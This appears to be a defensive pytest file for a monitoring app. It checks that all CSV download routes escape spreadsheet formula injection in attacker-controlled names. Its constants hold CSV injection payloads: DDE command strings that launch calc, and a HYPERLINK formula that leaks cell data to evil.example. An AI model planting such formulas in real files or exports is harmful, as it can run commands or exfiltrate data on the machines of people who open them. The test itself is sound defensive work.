"""Every CSV the service answers, through the real app, with data an attacker chose: a release named
``=cmd|"/c calc"!A1``, a page named like a HYPERLINK formula, a resource URL starting with ``@``, an event
message starting with ``=``, a budget scope starting with ``=``. No cell of any download starts with a formula
character unless it is a number (numbers stay numbers); the attacker's names come out prefixed with ``'``.

The routes are found by walking the app (every route with a ``format`` query parameter or a ``{fmt}`` path
part), so a new CSV route that this test does not request fails it."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.routing import iter_route_contexts
from fastapi.testclient import TestClient

from stacklens.control.db import session_scope
from stacklens.control.models import Budget
from stacklens.csv_cells import FORMULA_STARTS
from stacklens.performance.exports.tables import PAGES
from stacklens.performance.view_data import VIEWS
from stacklens.settings import Settings
from stacklens.warehouse.client import get_warehouse
from tests.dashboards.conftest import sign_in
from tests.dashboards.landing import land, sdk_event
from tests.dashboards.routers.test_performance_exports import CASES
from tests.stacklens.performance.inp import inp_seed
from tests.stacklens.performance.perf_seed import NOW, seed

RELEASE = '=cmd|"/c calc"!A1'
PAGE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
RESOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
MESSAGE = "=2+5+cmd|' /C calc'!A0"
SCOPE = "-1+1+cmd|' /C calc'!A0"
WINDOW = {"since": "2026-11-06T12:00:00Z", "until": NOW.isoformat().replace("+00:00", "Z")}
# Renamed in the seeded rows: (column, value in the seed) -> the attacker's value.
RENAMES = {
    ("release", "shop@1.1.0"): RELEASE,
    ("page", "/"): PAGE,
    ("transaction", "/"): PAGE,
    ("description", "https://shop.test/img/hero.png"): RESOURCE,
}


class Renaming:
    """A warehouse client that stores the seed's rows with the attacker's names (everything else passes)."""

    def __init__(self, client: Any) -> None:
        self.client = client

    def __getattr__(self, name: str) -> Any:
        return getattr(self.client, name)

    def insert(self, table: str, rows: list[list[Any]], column_names: list[str]) -> Any:
        renamed = [
            [
                RENAMES.get((c, v), v) if isinstance(v, str) else v
                for c, v in zip(column_names, row, strict=True)
            ]
            for row in rows
        ]
        return self.client.insert(table, renamed, column_names=column_names)


def _raise() -> None:
    raise ValueError(MESSAGE)


@pytest.fixture
def web(stores: Settings) -> Iterator[TestClient]:
    from stacklens.cli.app import build_app

    with TestClient(build_app(stores)) as test_client:
        yield test_client


def _with_dependencies(dependant: Any) -> Iterator[Any]:
    yield dependant
    for sub in dependant.dependencies:
        yield from _with_dependencies(sub)


def csv_routes(app: Any) -> set[str]:
    """Every route that can answer CSV: a ``format`` query parameter or a ``{fmt}`` path part."""
    found = set()
    for route in iter_route_contexts(app.routes):
        dependant = getattr(route, "dependant", None)
        if dependant is None:
            continue
        # Parameters of the route's dependencies too: a view's filters and `format` may come from one.
        queries = {p.name for d in _with_dependencies(dependant) for p in d.query_params}
        paths = {p.name for d in _with_dependencies(dependant) for p in d.path_params}
        if "format" in queries or "fmt" in paths:
            found.add(route.path_format)
    return found


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_route_writes_a_formula(web: TestClient, org_factory, stores: Settings) -> None:
    org = org_factory("Acme")
    seeded = seed(Renaming(get_warehouse(stores)), org["org_id"], org["project_id"], loads=120)
    (event,) = land(org["org_id"], org["project_id"], [sdk_event(_raise, tags={"note": MESSAGE})])
    pageload = next(t["event_id"] for t in seeded.transactions if t["op"] == "pageload")
    with session_scope(stores) as session:
        for scope in (SCOPE, "*"):  # SCOPE: no form accepts it, as a hand-edited row could hold it
            session.add(
                Budget(
                    org_id=org["org_id"],
                    project_id=org["project_id"],
                    metric="load_time_ms",
                    scope=scope,
                    value=1,
                    min_samples=1,
                    # The budgets are judged over the days up to today, the seed's loads lie in the two weeks
                    # before NOW: a window reaching back past the seed keeps the verdict off the calendar.
                    window_days=(datetime.now(UTC) - NOW).days + 15,
                )
            )
    sign_in(web, org["email"])
    api = {"Authorization": f"Bearer {org['api_key']}"}
    perf = f"/orgs/{org['org_slug']}/projects/{org['project']}/performance"

    # (route template, URL, headers): every CSV the app can answer for this project.
    requests: list[tuple[str, str, dict[str, str]]] = []
    for view in VIEWS:
        route = f"/api/projects/{{slug}}/performance/{view}"
        requests.append((route, f"/api/projects/{org['project']}/performance/{view}", api))
    requests.append(("/api/projects/{slug}/budgets", f"/api/projects/{org['project']}/budgets", api))
    # The INP view's parts (issue 69): an interaction on an element whose selector is the attacker's formula.
    warehouse = get_warehouse(stores)
    clicked = inp_seed.span(
        NOW - timedelta(hours=1), "https://shop.example/cart", MESSAGE, (10.0, 200.0, 5.0), []
    )
    inp_seed.store(warehouse, org["org_id"], org["project_id"], [clicked])
    inp_seed.refresh(warehouse, *inp_seed.hour_range(NOW - timedelta(hours=1)))
    inp = f"/api/projects/{org['project']}/performance/inp"
    requests.append(("/api/projects/{slug}/performance/inp", inp, api))
    # Release health: the list, and the release whose name is the attacker's formula.
    releases = f"/api/projects/{org['project']}/releases"
    requests.append(("/api/projects/{slug}/releases", releases, api))
    requests.append(("/api/projects/{slug}/releases/{version}", f"{releases}/{quote(RELEASE, safe='')}", api))
    for page, _, params, _, _ in CASES:
        for spec in PAGES[page]:
            query = "&".join(f"{k}={v}" for k, v in {**params, "table": spec.name}.items())
            route = "/orgs/{org_slug}/projects/{project_slug}/performance/export/{page_name}.{fmt}"
            requests.append((route, f"{perf}/export/{page}.csv?{query}", {}))
    requests.append(
        (
            "/orgs/{org_slug}/projects/{project_slug}/performance/budgets/export.{fmt}",
            f"{perf}/budgets/export.csv",
            {},
        )
    )
    requests.append(
        (
            "/orgs/{org_slug}/projects/{project_slug}/performance/waterfall/{event_id}/export.{fmt}",
            f"{perf}/waterfall/{pageload}/export.csv",
            {},
        )
    )
    requests.append(
        (
            "/orgs/{org_slug}/projects/{project_slug}/issues/{issue_id}/events/{event_id}.{fmt}",
            f"/orgs/{org['org_slug']}/projects/{org['project']}/issues/{event['issue_id']}/events/"
            f"{event['event_id']}.csv",
            {},
        )
    )
    # The logs API: a log record whose message is the attacker's, sent as an OTLP exporter sends it.
    record = {
        "timeUnixNano": str(int((NOW.timestamp() - 3600) * 1e9)),
        "severityNumber": 17,
        "body": {"stringValue": MESSAGE},
    }
    logged = web.post(
        f"/api/{org['project_id']}/otlp/v1/logs",
        json={"resourceLogs": [{"scopeLogs": [{"logRecords": [record]}]}]},
        headers={"X-Stacklens-App-Key": str(org["app_key"])},
    )
    assert logged.status_code == 200 and "partialSuccess" not in logged.json(), logged.text
    requests.append(("/api/projects/{slug}/logs", f"/api/projects/{org['project']}/logs", api))
    # The Explore page's download: the page's query string (page loads by release) as a CSV file.
    requests.append(
        (
            "/orgs/{org_slug}/explore/download.{fmt}",
            f"/orgs/{org['org_slug']}/explore/download.csv?dataset=pageloads&project={org['project']}"
            f"&g=release&a=count:&since={WINDOW['since']}&until={WINDOW['until']}",
            {},
        )
    )
    # Explore's download is a POST of the query: page loads grouped by release, the attacker's among them.
    explore = {
        "dataset": "pageloads",
        "project": org["project"],
        "group_by": ["release"],
        "aggregates": [{"fn": "count"}],
        **WINDOW,
    }
    walked = {route for route, _, _ in requests} | {"/api/explore/query"}
    assert walked == csv_routes(web.app), "a CSV route this test does not walk"
    answer = web.post("/api/explore/query?format=csv", json=explore, headers=api)
    assert answer.status_code == 200, answer.text[:300]
    explored = list(_cells(answer.text))
    assert "'" + RELEASE in explored, explored
    assert all(not cell.startswith(FORMULA_STARTS) or _is_number(cell) for cell in explored), explored

    seen: dict[str, int] = {}
    for _, url, headers in requests:
        if url.startswith("/api/") and "?" not in url:
            url += "?" + "&".join(f"{k}={v}" for k, v in {**WINDOW, "format": "csv"}.items())
        elif "/export/" in url:
            url += "&" + "&".join(f"{k}={v}" for k, v in WINDOW.items())
        answer = web.get(url, headers=headers)
        assert answer.status_code == 200, (url, answer.text[:300])
        assert answer.headers["content-type"].startswith("text/csv"), url
        for cell in _cells(answer.text):
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (url, cell)
            for name in (RELEASE, PAGE, RESOURCE, MESSAGE, SCOPE):
                if cell.startswith("'" + name):  # the name itself, or the start of a cell (an event's value)
                    seen[name] = seen.get(name, 0) + 1
    # The attacker's names did come out (neutralised), so the walk above checked real cells.
    assert set(seen) == {RELEASE, PAGE, RESOURCE, MESSAGE, SCOPE}, seen
    # Numbers stay numbers: the budget over its limit has a negative margin, written as a number, not text.
    budgets = list(csv.DictReader(io.StringIO(web.get(f"{perf}/budgets/export.csv").text)))
    margins = {b["scope"]: b["margin"] for b in budgets}
    assert margins["*"].startswith("-") and float(margins["*"]) < 0
    assert margins["'" + SCOPE] == ""  # no page matches it: no value, no margin
